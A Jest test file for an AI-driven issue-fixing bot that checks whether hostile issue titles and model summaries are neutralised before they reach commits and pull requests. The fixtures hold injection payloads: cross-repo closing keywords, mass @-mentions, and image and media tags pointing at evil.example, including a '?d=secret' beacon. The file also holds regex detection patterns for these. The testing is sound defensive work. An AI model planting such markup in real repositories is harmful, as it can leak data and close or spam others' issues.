import { afterAll, afterEach, describe, expect, it } from '@jest/globals';
import nock from 'nock';
import { BUGGY_REPO } from '../cli/helpers.js';
import { git } from '../support/git.js';
import { startHarness, turn, type Harness } from './harness.js';
import { labeled } from './issue-payloads.js';

const TITLE = 'add() breaks: fixes #99, closes other/repo#1, cc @alice @org/team @@bob ![x](https://evil.example/?t=1)';
const SUMMARY = [
  'Fixed add(). Fixes #3, resolves: #4, closes https://github.com/o/r/issues/5, fixed other/repo#6.',
  'Thanks @bob and @org/team, @@carol, `@dave (unclosed backtick), &#64;erin.',
  '![](https://evil.example/?d=secret) and ![a][r] and <img src="https://evil.example/i.png">',
  '<picture><source srcset="https://evil.example/p.png"></picture> <video poster="https://evil.example/v.png"></video>',
  '',
  '[r]: https://evil.example/ref.png',
].join('\n');
const SCRIPT = [
  turn(['edit_file', { path: 'lib.sh', old: '$1 - $2', new: '$1 + $2' }]),
  turn(['run_tests', {}]),
  turn(['finish', { summary: SUMMARY }]),
];

const LIVE_KEYWORD = /\b(close[sd]?|fix(e[sd])?|resolve[sd]?)[\s:]*\[?\\?(#\d|[\w.-]+\/[\w.-]+#\d|https?:\/\/\S+\/(issues|pull)\/\d)/i;
const LIVE_MENTION = /(?<![A-Za-z0-9_])@[A-Za-z0-9]/;
const LIVE_ENTITY = /&#0*64;|&commat;/i;
const LOADS_URL = /!\[|<(img|picture|source|video|audio|iframe)\b/i;

function expectNothingLive(text: string): void {
  expect(text).not.toMatch(LIVE_KEYWORD);
  expect(text).not.toMatch(LIVE_MENTION);
  expect(text).not.toMatch(LIVE_ENTITY);
  expect(text).not.toMatch(LOADS_URL);
}

describe('untrusted text in what greenfix pushes and posts', () => {
  let h: Harness;
  afterEach(async () => h?.close());
  afterAll(() => nock.restore());

  it('the issue title and the model summary reach the commit message and the PR with nothing live; Fix #7 stays', async () => {
    h = await startHarness({ files: BUGGY_REPO, script: SCRIPT, state: { config: 'verify: bash test.sh\n' } });
    await h.send('issues', labeled(h, { issue: { ...(labeled(h)['issue'] as object), title: TITLE } }));
    await h.settle();
    expect(h.state.pulls).toHaveLength(1);

    const head = git(h.remote, 'rev-parse', 'refs/heads/greenfix/issue-7');
    const message = git(h.remote, 'log', '-1', '--format=%B', head);
    const [subject, ...body] = message.split('\n');
    expect(subject!.startsWith('Fix #7: add() breaks: ')).toBe(true);
    expect(subject!.length).toBeLessThanOrEqual(72);
    expectNothingLive(subject!.slice('Fix #7'.length));
    expectNothingLive(body.join('\n'));
    expect(body.join('\n')).toContain('Fixed add().');
    expect(message).toContain(`Verified-tree: ${h.remoteTree('greenfix/issue-7')}`);
    // What was written is still readable: only invisible characters went in.
    expect(message.replaceAll('\u200b', '')).toContain('Thanks @bob and @org/team, @@carol, `@dave');

    const pr = h.state.pulls[0]!;
    expect(pr.title.startsWith('Fix #7: ')).toBe(true);
    expectNothingLive(pr.title.slice('Fix #7'.length));
    expect(pr.body.startsWith('Fixes #7\n')).toBe(true);
    expectNothingLive(pr.body.slice('Fixes #7'.length));
    expect(pr.body.replaceAll('\u200b', '')).toContain('Fixes #3, resolves: #4');
  });
});
